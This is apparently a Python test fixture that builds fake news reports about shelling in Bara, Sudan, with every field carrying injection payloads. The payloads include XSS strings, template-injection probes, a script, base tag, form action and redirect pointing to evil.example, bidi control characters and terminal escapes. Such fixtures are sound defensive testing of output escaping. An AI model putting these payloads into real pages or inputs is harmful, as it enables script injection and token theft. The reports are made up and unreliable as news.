"""Texts, names and addresses that try to break out of the page that shows them."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "</p><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "{{ 7 * 7 }} {% for x in y %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "</textarea></title></style><style>*{display:none}</style>",
    "javascript:alert(1)",
    "<!--", "]]>", "<![CDATA[", "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\u202eevil\u202c \u2066\u2069 \u200f",
    "\x1b[2J\x07", "\ufeff\u200b", "Z̡̢͇̗̩͔͕̜̮̅̓̈́̐͘a" * 3,
    "A" * 3000,
)  # fmt: skip


def attacks() -> list[dict[str, str]]:
    """Return reports whose every part is an attack, each with facts that will be shown."""
    reports = []
    for number, bad in enumerate(SCRIPTS):
        day = f"2024-02-{number + 1:02d}"
        text = (
            f"Shelling hits Bara {bad}\n\n"
            f"BARA, Sudan — Colonel Adam {bad} said that shells killed {number + 2} people in Bara "
            f"on Monday. “{bad} we hold the town of Bara,” Colonel Adam Tirab said.\n\n"
            f"{bad}\n\nThe army captured Bara on Sunday, {bad} said."
        )
        reports.append(
            {
                "text": text, "outlet": f"Outlet {bad}", "published": day,
                "url": f"https://evil.example/{number}?q={bad}", "name": f"{bad}.txt",
            }
        )  # fmt: skip
    return reports
